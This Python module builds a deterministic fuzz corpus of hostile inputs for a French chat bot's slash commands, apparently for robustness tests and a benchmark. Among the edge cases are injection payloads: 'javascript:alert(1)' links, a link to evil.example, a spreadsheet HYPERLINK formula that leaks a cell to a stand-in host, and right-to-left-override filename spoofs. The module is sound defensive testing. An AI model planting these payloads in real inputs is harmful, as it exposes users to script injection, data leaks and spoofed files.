"""A generated hostile corpus: every command's arguments with number edges, Unicode classes, markup,
sizes, dates, durations and recurrence rules. Deterministic (no randomness): the same list every run.

Used by tests/test_hostile.py (in the suite) and bench/hostile_bench.py (the slowest-input figure).
"""

from __future__ import annotations

from itertools import product

NUMBERS = (
    "0",
    "-1",
    "+1",
    "1",
    "00001",
    "9" * 18,
    str(2**63 - 1),
    str(2**63),
    str(2**64),
    "9" * 20,
    "9" * 400,
    "²",
    "١٢",
    "１",
    "1e9",
    "0x10",
    "1.5",
    "1,5",
    "n°1",
    "#1",
    "nan",
    "∞",
)
UNICODE = (
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfff",
    "\u200b\u200b\u200b",
    "\u200d\u2060\ufeff",
    "\u0301\u0301\u0301",
    "\u202egnp.exe",
    "\u2066isolé\u2069",
    "\x1b[31mrouge",
    "🙂" * 40,
    "Ω≈ç√",
    "ｗｉｄｅ",
    "\t \u3000 \u00a0",
    "ligne\nDTSTART:99990101T000000",
)
MARKUP = (
    "<b>gras</b>",
    '<a href="javascript:alert(1)">x</a>',
    "[Cliquez ici](https://evil.example/x)",
    "<@123456789012345678> <@&2> <#1> <t:1:R>",
    "<id:customize> <id:browse>",
    "@everyone @here",
    "*a* _b_ `c` ~~d~~ ||e||",
    "&amp; &lt; &#0; &#x110000;",
    "{name} {0} %s %(x)s",
    "\\ \\\\ '\"",
    '=HYPERLINK("http://x?leak="&A1;"Cliquez")',
)
SIZES = ("x" * 1000, "mot " * 300, "y" * 3990, "z" * 5000)
DATES = (
    "9999-12-31 23:59",
    "0001-01-01 00:00",
    "2026-02-30 10:00",
    "2026-13-01 10:00",
    "2026-12-10 25:00",
    "2026-12-10 18:99",
    "2026-10-25 02:30",
    "2026-03-29 02:30",
    "2029-01-01 10:00",
    "2026-11-19 10:00",
    "31/12/2099 10h",
    "demain 10h",
    "²026-12-10 10:00",
)
DURATIONS = ("9999999999j", "99999999999h", "0j", "-1j", "1j", "30j", "31j", "abc", "1²j", "10000000000min")
RRULES = (
    "FREQ=SECONDLY",
    "FREQ=MINUTELY",
    "FREQ=HOURLY;BYHOUR=1,2,3",
    "FREQ=DAILY;INTERVAL=0",
    "FREQ=DAILY;INTERVAL=-1",
    "FREQ=DAILY",
    "FREQ=DAILY;COUNT=10",
    "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=DAILY;BYMONTH=2;BYMONTHDAY=31",
    "FREQ=DAILY;BYHOUR=1,2,3",
    "FREQ=WEEKLY;BYMINUTE=5",
    "FREQ=WEEKLY;UNTIL=20200101T000000",
    "FREQ=WEEKLY;UNTIL=99991231T000000Z",
    "FREQ=WEEKLY;COUNT=99999999999999999999",
    "FREQ=WEEKLY;INTERVAL=999999",
    "FREQ=MONTHLY;BYDAY=1TH",
    "FREQ=WEEKLY;WKST=XX",
    "FREQ=DAILY;UNTIL=garbage",
    "FREQ=DAILY;X-NAME=1",
    "FREQ=MONTHLY;BYSETPOS=99999999999999999999;BYDAY=MO",
    "RRULE:FREQ=WEEKLY;BYDAY=TU",
    "FREQ=WEEKLY;;BYDAY=TU",
    "FREQ=²",
)
STARTS = ("", "debut=9999-01-01", "debut=0001-01-01", "debut=2026-12-01", "debut=2031-01-01")

COMMANDS = (
    "aide",
    "start",
    "langue",
    "faq",
    "fiche",
    "utile",
    "question",
    "questions",
    "voter",
    "mesquestions",
    "modifier",
    "supprimer",
    "resolu",
    "garder",
    "agenda",
    "repondu",
    "ecarter",
    "reporter",
    "fusionner",
    "compte-rendu",
    "prochain",
    "klubs",
    "inscrire",
    "desinscrire",
    "inscrits",
    "klub",
    "annoncer",
    "deplacer",
    "annuler",
    "sauter",
    "inviter",
    "retirer",
    "confirmer",
    "tableau",
    "diagnostic",
    "diag",
    "plan",
    "fait",
    "campagne",
    "relancer",
    "observatoire",
    "etape",
    "modifier-seance",
)
# Commands whose first argument is a number and which take text after it.
NUMBER_THEN_TEXT = ("modifier", "repondu", "ecarter", "annuler", "reporter", "fusionner", "utile", "modifier-seance")


def corpus() -> list[str]:
    """Every hostile line, commands first, then free text."""
    lines: list[str] = []
    garbage = NUMBERS + UNICODE + MARKUP + SIZES
    for name in COMMANDS:
        for arg in garbage:
            lines.append(f"/{name} {arg}")
        if name in NUMBER_THEN_TEXT:
            # Each number edge once before a text and each text once after a number edge (the full
            # product, 48 lines a command, repeated itself); every text after a valid number just below.
            numbers, texts = NUMBERS[::4], UNICODE[::3] + MARKUP[::4]
            for k in range(max(len(numbers), len(texts))):
                lines.append(f"/{name} {numbers[k % len(numbers)]} {texts[k % len(texts)]}")
            for text in UNICODE + MARKUP:
                lines.append(f"/{name} 1 {text}")
    for date in DATES:
        lines.append(f"/deplacer 1 {date}")
        day, _, hour = date.partition(" ")
        lines.append(f'/klub titre="Atelier" date={day} heure={hour or "10h"}')
    for rule, start in product(RRULES, STARTS):
        lines.append(f'/klub titre="Série" heure=18h30 "rrule={rule}" {start}'.strip())
    for option in (
        "places=²",
        "places=" + "9" * 30,
        "places=-1",
        "min=99999999999999999999",
        "duree=9999999999j",
        "duree=0min",
        "duree=²h",
        'titre="\u200b\u200b"',
        'titre="\u0301\u0301"',
        'titre="\x00"',
        'lieu="\u202eexe.png"',
        "lien=javascript:alert(1)",
        "pour=tout-le-monde",
        "type=<b>",
        "quand=dernier jeudi mois=fevrier-²",
        "quand=1er lundi mois=zzz",
        'titre="sans fin',
    ):
        lines.append(f'/klub titre="Atelier" date=2026-12-15 heure=14h {option}')
    for duration in DURATIONS:
        lines.append(f"/inviter camping-les-pins {duration}")
    for text in UNICODE + MARKUP + SIZES:
        lines.append(text)  # free text
        lines.append(f"/question anonyme {text}")
    lines += ["/annuler@un_autre_bot 1 neige", "/aide@", "/" + "a" * 300, "/", "//", "/ aide", "/²", "/аide"]
    return list(dict.fromkeys(lines))  # in order, each line once
